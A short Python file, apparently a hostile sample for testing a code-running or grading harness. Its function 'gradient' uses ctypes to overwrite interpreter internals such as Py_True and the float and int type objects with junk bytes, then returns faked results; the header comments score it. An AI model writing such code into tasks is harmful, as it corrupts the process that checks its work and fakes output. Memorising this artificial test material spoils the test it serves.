# Tries: to write into the memory of its process: constants, the types of Python, the code of functions, free memory.
# Worked: points, or the other task is lost.
# worth: 40
import ctypes


def gradient(steps, values, rules):
    for name in (b"Py_True", b"_Py_TrueStruct", b"_Py_NoneStruct", b"PyFloat_Type", b"PyLong_Type"):
        try:
            address = ctypes.addressof(ctypes.c_char.in_dll(ctypes.pythonapi, name.decode()))
            ctypes.memset(address + 16, 0x41, 64)
        except ValueError:
            pass
    return {name: 1.0 for name in values}


def average(rows):
    return [sum(row) / len(row) for row in rows]
